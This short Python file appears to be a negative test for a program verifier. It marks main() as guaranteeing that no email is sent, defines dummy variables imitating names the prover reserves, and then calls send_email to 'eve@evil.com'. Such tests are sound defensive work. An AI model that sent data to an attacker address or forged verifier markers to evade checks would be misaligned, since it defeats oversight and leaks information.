# not proved: a program must not reach what the prover adds
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    _clauz3_required_0 = lambda: True
    _lictor_required_0 = lambda: True
    send_email("eve@evil.com", "x")
